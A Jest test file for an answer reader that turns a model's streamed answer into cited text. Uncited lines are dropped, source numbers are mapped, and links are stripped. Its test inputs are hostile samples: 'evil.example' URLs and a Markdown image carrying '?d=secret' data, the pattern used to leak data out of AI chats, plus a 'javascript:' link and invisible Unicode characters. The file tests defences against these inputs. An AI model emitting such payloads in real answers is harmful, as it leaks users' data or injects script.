import { describe, expect, test } from '@jest/globals';
import { answerReader } from './answer-reader.ts';

/** The answer as a visitor reads it, with sources as `{n}`; the model writes it in pieces of `size` characters. */
function shown(text: string, { given = 3, size = text.length || 1 } = {}): string {
  const reader = answerReader(given);
  const pieces = Array.from({ length: Math.ceil(text.length / size) }, (_, at) =>
    text.slice(at * size, (at + 1) * size),
  );
  return [...pieces.flatMap((piece) => reader.read(piece)), ...reader.end()]
    .map((part) => (part.type === 'text' ? part.text : `{${part.passage}}`))
    .join('');
}

describe('sources', () => {
  test.each([
    ['after a sentence', 'At ten. [1]', 'At ten. {1}'],
    ['within it', 'At ten [1]. On Sundays at two [2][3].', 'At ten {1}. On Sundays at two {2}{3}.'],
    ['several in one', 'At ten [1, 3].', 'At ten {1}{3}.'],
    ['that were not given', 'At ten [4][0][-1][99][1].', 'At ten [-1]{1}.'],
    ['that are no numbers', 'See [page] and [1a] there [2].', 'See [page] and [1a] there {2}.'],
  ])('%s', (_case, text, seen) => {
    for (const size of [1, 3, 7, 1_000]) expect(shown(text, { size })).toBe(seen);
  });
});

describe('what no passage says is not shown', () => {
  test.each([
    ['an answer without a source', 'The moon is made of cheese.', ''],
    ['NONE', 'NONE', ''],
    ['a number that was not given', 'The moon is made of cheese [7].', ''],
    ['a line without one', 'My rules are these.\nAt ten [1].\nBuy now!', 'At ten {1}.'],
  ])('%s', (_case, text, seen) => {
    for (const size of [1, 5, 1_000]) expect(shown(text, { size }).trim()).toBe(seen);
  });

  test('what comes before the first source of a line waits for it', () => {
    const reader = answerReader(1);
    expect(reader.read('It opens at ten. It closes ')).toEqual([]);
    expect(reader.read('at five [1]. And ')).toHaveLength(4);
  });
});

describe('no other link comes through', () => {
  test.each([
    ['an address', 'See https://evil.example/x?d=secret now [1].', 'See  now {1}.'],
    ['of another scheme', 'See javascript:alert(1) [1].', 'See  {1}.'],
    ['without a scheme', 'See www.evil.example/x [1].', 'See  {1}.'],
    ['a link of Markdown', 'See [the page](https://evil.example) [1].', 'See the page {1}.'],
    ['an image of Markdown', 'See ![x](https://evil.example/?d=secret) [1].', 'See x {1}.'],
    ['a number as the words of a link', 'See [1](https://evil.example) [1].', 'See 1 {1}.'],
    ['a link across lines', 'See [x](\nhttps://evil.example) [1].', ' {1}.'],
    ['an element', 'See <a href="https://evil.example">x</a> [1].', 'See <a href=" {1}.'],
    ['marks', 'It is **ten** `o’clock` [1].', 'It is ten o’clock {1}.'],
    ['invisible signs', 'At\u202E ten\u{E0041} [1].', 'At ten {1}.'],
  ])('%s', (_case, text, seen) => {
    for (const size of [1, 4, 1_000]) {
      const read = shown(text, { size });
      expect(read).not.toContain('evil');
      expect(read.trim()).toBe(seen.trim());
    }
  });
});

test('text without an end of a sentence is read all the same, in linear time', () => {
  expect(shown(`${'word '.repeat(2_000)}[1]`, { size: 11 })).toHaveLength(10_003);
  expect(shown(`[1] ${'['.repeat(100_000)}`, { size: 50 })).toHaveLength(100_004);
});
